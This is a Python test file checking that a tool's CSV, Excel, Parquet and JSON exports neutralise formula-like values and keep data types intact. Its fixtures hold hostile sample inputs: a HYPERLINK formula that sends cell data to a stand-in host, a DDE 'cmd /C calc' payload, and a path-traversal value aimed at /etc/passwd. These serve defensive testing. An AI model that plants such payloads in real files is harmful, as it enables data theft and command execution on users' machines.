"""Exports: what is known as one file, and nothing in it does anything when it is opened."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree as ET

import duckdb
import polars as pl
import pytest
from builders import keep, routed
from typer.testing import CliRunner

from flows.cli.main import app
from flows.export.export import export
from flows.export.safe import harmless
from flows.store.store import Store
from schemas.errors import InputError, PathError

EVIL = '=HYPERLINK("http://a.example/?"&A1,"click")'
FORMULAS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"]
NS = {"a": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.fixture
def out(tmp_path) -> Path:
    folder = tmp_path / "out"
    with Store.open(folder) as store:
        keep(
            store,
            routed(
                {
                    "invoice_number": "-17",
                    "issue_date": date(2025, 3, 14),
                    "seller_name": EVIL,
                    "buyer_name": "../../etc/pass\x07wd",
                    "net_total": Decimal("-40.50"),
                    "grand_total": Decimal("12345678901234567.89"),
                    "line_items[0].description": '@Nails, "large"',
                    "line_items[0].line_total": Decimal("12.00"),
                    "line_items[1].description": "Hammer",
                    "line_items[1].line_total": Decimal("0.125"),
                }
            ),
        )
        keep(store, routed({"invoice_number": "R-2"}), name="b")
    return folder


def written(out: Path, path: Path, what: str = "records", **more: object) -> tuple[Path, ...]:
    with Store.open(out) as store:
        return export(store, out, what, path, format=path.suffix[1:], **more)[0]


def table(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as opened:
        return list(csv.DictReader(opened))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_is_text(text):
    assert harmless(text).startswith("'")
    assert not set(harmless(text)) & {"\t", "\r", "\n"}


def test_csv_has_no_formula_and_numbers_stay_numbers(out, tmp_path):
    rows, items = written(out, tmp_path / "invoices.csv")
    assert items.name == "invoices.line_items.csv"
    first, second = table(rows)
    assert first["seller_name"] == f"'{EVIL}"
    assert first["invoice_number"] == "'-17"
    assert first["buyer_name"] == "../../etc/pass wd"
    assert (first["net_total"], first["issue_date"]) == ("-40.50", "2025-03-14")
    assert first["grand_total"] == "12345678901234567.89"
    assert (second["invoice_number"], second["seller_name"]) == ("R-2", "")
    assert [(row["_row"], row["description"], row["line_total"]) for row in table(items)] == [
        ("0", '\'@Nails, "large"', "12.00"),
        ("1", "Hammer", "0.125"),
    ]
    assert table(items)[0]["_document_id"] == first["_document_id"]


def test_duckdb_reads_it_typed(out, tmp_path):
    rows, items = written(out, tmp_path / "invoices.csv")
    query = f"""select r.issue_date, r.net_total, sum(i.line_total)
        from '{rows}' r join '{items}' i using (_document_id, _record) group by all"""
    assert duckdb.sql(query).fetchall() == [(date(2025, 3, 14), -40.5, 12.125)]


def cells(path: Path, sheet: int) -> dict[str, tuple[str, str]]:
    """Return each cell's type and text: `s` are texts, `n` numbers."""
    with zipfile.ZipFile(path) as book:
        root = ET.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
        assert root.findall(".//a:f", NS) == []
        assert root.findall(".//a:hyperlink", NS) == []
    found = {}
    for cell in root.findall(".//a:c", NS):
        text = "".join(cell.itertext())
        found[cell.get("r")] = (cell.get("t", "n"), text)
    return found


def test_excel_has_typed_cells_texts_that_stay_texts_and_a_sheet_a_list(out, tmp_path):
    [path] = written(out, tmp_path / "invoices.xlsx")
    sheet = cells(path, 1)
    heads = {text: re.sub(r"\d", "", at) for at, (_, text) in sheet.items() if at.endswith("1")}

    def cell(name: str) -> tuple[str, str]:
        return sheet[f"{heads[name]}2"]

    assert cell("seller_name") == ("inlineStr", EVIL)
    assert cell("net_total") == ("n", "-40.5")
    assert cell("issue_date") == ("n", "45730")
    assert cell("grand_total") == ("inlineStr", "12345678901234567.89"), "it would be rounded"
    assert ("inlineStr", "Hammer") in cells(path, 2).values()
    with zipfile.ZipFile(path) as book:
        workbook = book.read("xl/workbook.xml").decode()
        assert 'quotePrefix="1"' in book.read("xl/styles.xml").decode()
    assert re.findall(r'<sheet name="([^"]+)"', workbook) == ["records", "line_items"]


def test_parquet_and_json_lines_keep_lists_in_their_rows(out, tmp_path):
    [parquet] = written(out, tmp_path / "a.parquet")
    frame = pl.read_parquet(parquet)
    assert frame["line_items"].list.len().to_list() == [2, 0]
    assert frame["net_total"][0] == Decimal("-40.5")
    [lines] = written(out, tmp_path / "a.jsonl")
    first = json.loads(lines.read_text(encoding="utf-8").splitlines()[0])
    assert (first["seller_name"], first["net_total"]) == (EVIL, "-40.50")
    assert first["line_items"][1]["line_total"] == "0.125"


def test_fields_and_documents_are_exported_as_well(out, tmp_path):
    [fields] = written(out, tmp_path / "fields.csv", "fields")
    assert {row["field"] for row in table(fields)} >= {"seller_name", "line_items[1].line_total"}
    assert json.loads(table(fields)[0]["boxes"])[0]["x0"] == 1.0
    [documents] = written(out, tmp_path / "documents.xlsx", "documents")
    assert ("inlineStr", "in/a.pdf") in cells(documents, 1).values()


def test_what_is_not_there_is_said(out, tmp_path):
    with pytest.raises(InputError, match="There are no records of type 'receipt' yet"):
        written(out, tmp_path / "a.csv", type_name="receipt")
    with pytest.raises(PathError, match="can't be written"):
        written(out, out / "papersift.db" / "a.csv")


def test_the_command(out, tmp_path):
    file = tmp_path / "made" / "a.csv"
    given = ["export", "records", "--type", "invoice", "--out", str(out), "-o", str(file)]
    told = CliRunner().invoke(app, [*given, "--json"])
    items = file.with_name("a.line_items.csv")
    assert json.loads(told.stdout) == {"files": [str(file), str(items)], "rows": 2}
    assert CliRunner().invoke(app, [*given, "--format", "doc"]).exit_code == 2
    assert CliRunner().invoke(app, ["export", "things", "-o", str(file)]).exit_code == 2
    assert "Example: papersift export" in CliRunner().invoke(app, ["export", "--help"]).stdout
